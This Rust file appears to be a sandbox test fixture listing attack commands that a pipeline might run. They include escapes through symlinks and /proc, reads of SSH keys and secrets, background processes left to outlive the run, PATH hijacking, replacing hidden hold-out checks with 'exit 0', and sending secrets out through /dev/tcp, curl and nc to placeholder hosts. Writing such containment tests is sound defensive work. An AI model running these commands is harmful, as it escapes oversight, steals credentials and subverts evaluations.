//! Attacks as a pipeline's commands write them. No wall reads the text: only what stands outside afterwards counts.

use crate::row::{Proof, Row};

#[rustfmt::skip]
pub(super) const ROWS: &[Row] = &[
    Row::shell("sh-parent", "pipeline 1", "`cp` to the parent folder", "view", "cp out/own.txt ../{planted}; cp out/own.txt {open}/{planted}"),
    Row::shell("sh-quotes", "pipeline 2", "the same with a path split by quotes", "view", "cp out/own.txt .\"\".\"/\"{planted}; echo x > {open}'/'{planted}"),
    Row::shell("sh-no-space", "pipeline 3", "redirect without a space", "view", "echo x >{open}/{planted};echo x >>{secret}"),
    Row::shell("sh-home", "pipeline 3", "write by `$HOME` and its parents", "view", "echo x > $HOME/{planted}; echo x > ${HOME%/*}/{planted}; cat {key} $HOME/.ssh/id_rsa"),
    Row::shell("sh-pwd", "pipeline 3", "write by a path cut from `$PWD`", "view", "echo x > ${PWD%/*}/{planted}; echo x > ${PWD%/*/*}/{planted}"),
    Row::shell("sh-link", "pipeline 4", "write through a link", "view", "ln -s {secret} out/sh-link && echo x >> out/sh-link; cat out/sh-link"),
    Row::shell("sh-link-folder", "pipeline 5", "write through a linked folder", "view", "ln -s {open} out/sh-folder && echo x > out/sh-folder/{planted}"),
    Row::shell("sh-hardlink", "pipeline 6", "write through a hard link", "view", "ln {secret} out/sh-hard && echo x >> out/sh-hard; cat out/sh-hard"),
    Row::shell("sh-proc", "pipeline 7", "read by `/proc/self/root` and `/proc/self/fd`", "view", "cat /proc/self/root{secret}; cat /proc/self/fd/[3-9]*; cat /proc/*/root{secret}"),
    Row::shell("sh-background", "pipeline 8", "leave a child that writes later", "PID 1", "(sleep 2; echo x > {open}/{planted}; {attacker}/glovebox-hostile lie-low {mark}) >/dev/null 2>&1 &").proof(Proof::Reaped),
    Row::shell("sh-nohup", "sandbox 56", "the same by `setsid` and `nohup`", "PID 1", "setsid nohup {attacker}/glovebox-hostile lie-low {mark} >/dev/null 2>&1 &").proof(Proof::Reaped),
    Row::shell("sh-metadata", "pipeline 10", "change mode and time outside", "view", "chmod 777 {secret}; touch -d @1 {secret}; chmod 700 {open}").landlock("Landlock knows no right for modes, owners, times and attributes"),
    Row::shell("sh-hold-out", "pipeline 14", "look for hidden scenarios where others hide them", "mask layer", "find / -xdev -name '*hidden_read_paths*' -exec cat '{}' + 2>/dev/null; cat {project}/scenarios/* {folder}/project/scenarios/*"),
    Row::shell("sh-original", "pipeline 16", "read the project the workspace was made from", "view", "cat {folder}/project/scenarios/holdout-canary.txt; cat ../project/scenarios/*; ls -R {folder}"),
    Row::shell("sh-git", "pipeline 17", "read a hold-out from the repository's objects", "view", "git -C {folder}/project log -p; git log -p --all; git fsck --lost-found; git show HEAD:scenarios/holdout-canary.txt"),
    Row::shell("sh-recreate", "pipeline 15", "put a hold-out of our own in the place of the hidden one", "protected paths", "mkdir -p scenarios && echo 'exit 0' > scenarios/check.sh").proof(Proof::Commit("scenarios")),
    Row::shell("sh-path-hijack", "sandbox 62", "let a program in the workspace be found before the system's", "fixed PATH", "printf '#!/bin/sh\\necho hijacked\\n' > uname; chmod 755 uname; uname").proof(Proof::Never("hijacked")),
    Row::shell("sh-environment", "pipeline 26", "print every variable", "empty environment", "env").proof(Proof::Environment),
    Row::shell("sh-network", "pipeline 27", "send a secret away", "network namespace", "(exec 3<>/dev/tcp/{lan}) 2>/dev/null; command -v curl >/dev/null && curl -s -m 1 http://{tcp}/ http://{lan}/; command -v nc >/dev/null && echo x | nc -w 1 127.0.0.1 1; true"),
];
